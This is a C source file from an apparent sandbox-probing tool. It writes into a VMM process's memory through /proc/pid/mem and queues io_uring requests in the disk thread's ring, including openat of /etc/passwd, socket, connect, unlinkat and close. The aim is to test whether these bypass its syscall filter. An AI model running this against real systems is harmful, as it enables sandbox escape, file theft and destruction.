// SPDX-License-Identifier: GPL-2.0-only
/*
 * ring.c - requests put into the io_uring of a disk, whose memory an intruder has: the kernel looks at
 * them without the thread's filter of system calls.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "intruder.h"

#define ENTRIES	256	/* as vhctl's, for the same layout */

struct ring {
	int mem, fd;			/* the VMM's memory; its descriptor of the ring */
	pid_t tid;
	uint64_t at, sqes;		/* its addresses there */
	uint64_t zeroes;		/* the guest's memory, which it does not use: to the thread, a kick */
	struct io_uring_params p;	/* a ring of the same size has the same layout */
};

static void find(struct ring *r, const struct target *t)
{
	char path[64], line[256];
	unsigned long first, end, most = 0;
	FILE *f;

	memset(r, 0, sizeof(*r));
	/* Its queue of completions is larger than that: which is behind what is looked at. */
	if (syscall(SYS_io_uring_setup, ENTRIES, &r->p) < 0)
		die("io_uring: %s", strerror(errno));
	snprintf(path, sizeof(path), "/proc/%d/maps", t->vmm);
	f = fopen(path, "re");
	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%lx-%lx", &first, &end) != 2)
			continue;
		if (end - first > most && strstr(line, " rw-p ")) {
			most = end - first;
			r->zeroes = first + most / 2;
		}
		/* the first ring is at the higher address */
		if (strstr(line, "io_uring") && strstr(line, " 10000000 "))
			r->sqes = first;
		else if (strstr(line, "io_uring"))
			r->at = first;
	}
	if (f)
		fclose(f);
	snprintf(path, sizeof(path), "/proc/%d/mem", t->vmm);
	r->mem = open(path, O_RDWR | O_CLOEXEC);
	r->fd = descriptor(t->vmm, "io_uring", 0);
	r->tid = thread_named(t->vmm, "disk");
	if (!r->at || !r->sqes || r->mem < 0 || r->fd < 0 || !r->tid)
		die("the ring is not found");
}

static uint32_t get(struct ring *r, uint32_t offset)
{
	uint32_t value = 0;

	if (pread(r->mem, &value, 4, r->at + offset) != 4)
		die("cannot read the VMM's memory");
	return value;
}

static void set(struct ring *r, uint64_t at, const void *data, size_t n)
{
	if (pwrite(r->mem, data, n, at) != (ssize_t)n)
		die("cannot write the VMM's memory");
}

/* What the request came to, as its completion says. */
static int request(struct ring *r, struct io_uring_sqe *s)
{
	uint32_t mask = get(r, r->p.sq_off.ring_mask), tail = get(r, r->p.sq_off.tail), slot = tail & mask;
	long args[6] = { r->fd, 1, 0, 0, 0, 0 }, result = -1;
	struct io_uring_cqe c = { 0 };
	uint32_t seen = get(r, r->p.cq_off.tail), cq_mask = get(r, r->p.cq_off.ring_mask);
	/* the array is behind the completions, of which there are more than in a ring of this size */
	uint32_t array = r->p.cq_off.cqes + (cq_mask + 1) * sizeof(c);

	s->user_data = r->zeroes;
	array = (array + 63) & ~63u;
	set(r, r->sqes + slot * sizeof(*s), s, sizeof(*s));
	set(r, r->at + array + slot * 4, &slot, 4);
	tail++;
	set(r, r->at + r->p.sq_off.tail, &tail, 4);
	if (inject(r->tid, SYS_io_uring_enter, args, false, &result) == ENDED || result != 1)
		die("io_uring_enter: %ld", result);
	for (int i = 0; i < 100; i++, usleep(10000)) {
		for (uint32_t at = seen; at != get(r, r->p.cq_off.tail); at++) {
			uint64_t cqe = r->at + r->p.cq_off.cqes + (at & cq_mask) * sizeof(c);

			if (pread(r->mem, &c, sizeof(c), cqe) == sizeof(c) && c.user_data == r->zeroes)
				return c.res;
		}
	}
	die("no completion");
}

static void tell(const char *what, int res)
{
	printf("ring %s: %s\n", what, res < 0 ? strerror(-res) : "done");
}

#define THE_DISK	(-3)	/* its descriptor */
#define READ(number, more)	{ .opcode = IORING_OP_READ, .fd = number, .len = 8, .flags = more }

static const struct {
	const char *what;
	struct io_uring_sqe sqe;
} tries[] = {
	{ "openat", { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD } },
	{ "socket", { .opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM } },
	{ "connect", { .opcode = IORING_OP_CONNECT } },
	{ "close", { .opcode = IORING_OP_CLOSE, .fd = THE_DISK } },
	{ "unlinkat", { .opcode = IORING_OP_UNLINKAT, .fd = AT_FDCWD } },
	{ "accept", { .opcode = IORING_OP_ACCEPT, .flags = IOSQE_FIXED_FILE } },
	{ "splice", { .opcode = IORING_OP_SPLICE, .flags = IOSQE_FIXED_FILE } },
	{ "nop", { .opcode = IORING_OP_NOP } },
	{ "read of a descriptor", READ(THE_DISK, 0) },
	{ "read with another flag", READ(0, IOSQE_FIXED_FILE | IOSQE_ASYNC) },
	{ "read of a file that is not registered", READ(100, IOSQE_FIXED_FILE) },
	{ "read of the disk", READ(0, IOSQE_FIXED_FILE) },
};

void try_ring(const struct target *t)
{
	char path[] = "/etc/passwd";
	struct ring r;
	long text;

	find(&r, t);
	text = scratch(r.tid, path, sizeof(path));
	for (unsigned int i = 0; i < sizeof(tries) / sizeof(tries[0]); i++) {
		struct io_uring_sqe s = tries[i].sqe;

		s.addr = text;
		if (s.fd == THE_DISK)
			s.fd = descriptor(t->vmm, "disk.img", 0);
		tell(tries[i].what, request(&r, &s));
	}
}
